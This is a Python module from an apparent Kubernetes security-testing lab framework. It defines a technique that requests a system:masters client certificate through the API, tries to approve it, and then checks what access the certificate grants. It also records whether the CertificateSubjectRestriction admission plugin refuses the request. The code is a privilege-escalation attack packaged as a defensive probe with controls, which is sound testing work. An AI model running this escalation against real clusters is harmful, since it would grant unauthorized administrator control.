"""Request a certificate for system:masters through the API; the apiserver refuses it.

No authorizer refuses anything to the group ``system:masters``. The attacker needs the right to
create certificate signing requests. The admission plugin CertificateSubjectRestriction, which is
on by default, refuses each request that names this group. It does so even for a caller who may
create and approve requests. The plugin protects only the API: an attacker who
writes into etcd or holds the CA's key does not meet it.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import TYPE_CHECKING, Any

from labkit.cluster import Environment
from labkit.errors import ProbeError
from labkit.lab.traces import Trace, leaving
from labkit.model import Foothold, Model
from labkit.model.admission_plugins import admission
from labkit.model.decision import authorizers
from labkit.techniques._lib.api.access import (
    ACCESS_REVIEW,
    ASK_EVERYTHING,
    CHANNEL,
    api_url,
    apiserver_of,
    caller_at,
    everything_allowed,
    everything_review,
    may_all,
    options_at,
    signed_as,
)
from labkit.techniques._lib.api.certificate_requests import (
    CREATE,
    PATH,
    approval_of,
    approve,
    is_signed,
    may_approve,
    new_request,
    remove_request,
    signed_certificate,
)
from labkit.techniques._lib.machines.admin import create
from labkit.techniques._lib.machines.reach import Answer, legitimate, request, run_from
from labkit.techniques._lib.technique import (
    ADMIN,
    NETWORK,
    ROOT_ON_WORKER,
    Prediction,
    SentRequest,
    Technique,
    all_of,
    holds,
    then,
)
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

NAME, USER, GROUP = "labkit-masters", "labkit", "system:masters"
PLUGIN = "CertificateSubjectRestriction"
#: Part of the plugin's message.
WORDS = b"system:masters group is not allowed"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict from the caller's rights and from the plugin CertificateSubjectRestriction."""
    caller = caller_at(model.environment, foothold)
    plugin = holds(admission(apiserver_of(model.environment), PLUGIN), "allow-all")
    approved = all_of(may_approve(model, caller), is_signed(model.environment))
    return all_of(may_all(model, caller, [CREATE]), then(plugin, approved))


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return the request, its approval, and the review with the certificate."""
    caller = caller_at(model.environment, foothold)
    plugin = holds(admission(apiserver_of(model.environment), PLUGIN), "allow-all")
    taken = all_of(may_all(model, caller, [CREATE]), plugin)
    signed = all_of(taken, may_approve(model, caller), is_signed(model.environment))
    return [
        SentRequest(caller, CREATE),
        SentRequest(caller, approve(NAME), taken),
        SentRequest(signed_as(USER, GROUP), ASK_EVERYTHING, signed),
    ]


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Send the request; if it is taken, approve it and act with the certificate.

    If it is refused, a request for a harmless group is the positive control.
    """
    options = options_at(lab.environment, foothold)
    asked = f"asked for a certificate of {GROUP}: POST {PATH} at the apiserver"

    def sent(body: bytes, path: str, more: list[str]) -> Answer:
        return request(lab, api_url(lab, path), foothold=foothold, body=body, options=more)

    with leaving(lab, Trace("object", f"{PATH}/{NAME}")):
        with new_request(lab, foothold, NAME, USER, GROUP) as (folder, body):
            answer = sent(json.dumps(body).encode(), PATH, options)
            if not answer.refusal:
                made = json.loads(answer.body)
                return _as_master(lab, foothold, asked, folder, made, options)
        if answer.refusal != "HTTP 403" or WORDS not in answer.body:
            return _refused(lab, foothold, answer.refusal, asked, _administrator(lab))
        remove_request(lab, NAME)
        with new_request(lab, foothold, NAME, USER, "labkit") as (_, body), legitimate():
            harmless = sent(json.dumps(body).encode(), PATH, options).refusal
        if harmless:
            raise ProbeError(f"the same caller's request for another group was refused: {harmless}")
    control = "the same caller's request for another group is taken"
    return _refused(lab, foothold, f"HTTP 403, {PLUGIN}", asked, control)


def _as_master(
    lab: Lab,
    foothold: Foothold,
    asked: str,
    folder: str,
    made: dict[str, Any],
    options: list[str],
) -> Verdict:
    """Approve the request that was taken, and ask with the certificate what it allows."""
    put = [*options, "--request", "PUT"]
    url = api_url(lab, f"{PATH}/{NAME}/approval")
    allowed = request(lab, url, foothold=foothold, body=approval_of(made), options=put)
    approved = f"approved it: PUT {PATH}/{NAME}/approval"
    if allowed.refusal:
        lab.kubectl("certificate", "approve", NAME)
        control = "the administrator approves the same request"
        return _refused(lab, foothold, allowed.refusal, f"{asked}; tried to approve it", control)
    certificate = signed_certificate(lab, NAME)
    if run_from(lab, foothold, ["tee", f"{folder}/crt"], stdin=certificate).exit_code:
        raise ProbeError("the certificate could not be written at the foothold")
    pair = ["--cert", f"{folder}/crt", "--key", f"{folder}/key"]
    url = api_url(lab, ACCESS_REVIEW)
    answer = request(lab, url, foothold=foothold, body=everything_review(), options=pair)
    if answer.refusal:
        raise ProbeError(f"with a certificate of {GROUP}: {answer.refusal}")
    evidence = (asked, approved, everything_allowed(answer))
    return Verdict(
        TECHNIQUE.name, lab.mode, foothold, True, f"HTTP 201, without {PLUGIN}", evidence
    )


def _refused(lab: Lab, foothold: Foothold, reason: str, asked: str, control: str) -> Verdict:
    if not reason.startswith(("HTTP 401", "HTTP 403")):
        raise ProbeError(f"{TECHNIQUE.name}: inconclusive answer {reason}")
    return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, (asked,), control)


def _administrator(lab: Lab) -> str:
    """Create a request for another group as the administrator."""
    with new_request(lab, NETWORK, NAME, USER, "labkit") as (_, body):
        create(lab, PATH, body)
    return "the administrator's request for another group is taken"


def _settings(env: Environment) -> list[Setting]:
    """Return the authorization mode, which decides before the admission plugin does."""
    found = authorizers(env, apiserver_of(env))
    return [("who decides", ",".join(it.kind for it in found), str(found[0].source))]


TECHNIQUE = Technique(
    name="csr-masters",
    title="Ask for a certificate of system:masters",
    footholds=(NETWORK, ROOT_ON_WORKER),
    grants=(ADMIN,),
    about=CHANNEL,
    properties=("client_authentication", "authorization"),
    attack=("T1098", "T1649"),
    stride=("elevation of privilege",),
    cwe=("CWE-269",),
    sources=(
        "https://kubernetes.io/docs/reference/access-authn-authz/admission-controllers/"
        "#certificatesubjectrestriction",
        "https://attack.mitre.org/techniques/T1649/",
    ),
    predict=predict,
    execute=execute,
    requests=requests,
    settings=_settings,
    leaves=("file", "object"),
)
